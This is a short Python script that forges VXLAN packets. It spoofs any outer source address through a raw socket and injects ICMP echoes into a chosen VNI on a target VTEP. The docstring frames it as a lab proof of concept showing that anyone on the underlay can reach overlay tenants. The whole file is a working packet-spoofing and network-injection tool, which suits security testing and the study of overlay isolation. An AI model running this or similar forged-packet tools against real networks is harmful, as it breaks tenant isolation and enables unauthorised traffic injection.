"""Runs inside a lab VM: send COUNT VXLAN packets (VNI, an ICMP echo inside) to DST's VTEP with
any outer source address, as anyone on the underlay could (raw socket, IP_HDRINCL).

    python forge_vxlan.py OUTER_SRC OUTER_DST VNI INNER_SRC INNER_DST [COUNT]
"""

from __future__ import annotations

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac(ip: str) -> bytes:  # the agent's rule: 0a:58 + the IPv4 address
    return b"\x0a\x58" + socket.inet_aton(ip)


def ipv4(src: str, dst: str, proto: int, payload: bytes) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x4242, 0, 64, proto, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def main() -> int:
    outer_src, outer_dst, vni, inner_src, inner_dst = sys.argv[1:6]
    count = int(sys.argv[6]) if len(sys.argv) > 6 else 5
    icmp = struct.pack("!BBHHH", 8, 0, 0, 0x4f56, 1) + b"forged-vxlan"
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    frame = mac(inner_dst) + mac(inner_src) + b"\x08\x00" + ipv4(inner_src, inner_dst, 1, icmp)
    vxlan = struct.pack("!II", 0x08000000, int(vni) << 8) + frame
    udp = struct.pack("!HHHH", 40000, 4789, 8 + len(vxlan), 0) + vxlan
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(count):
        sock.sendto(ipv4(outer_src, outer_dst, 17, udp), (outer_dst, 0))
    print(f"sent {count}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
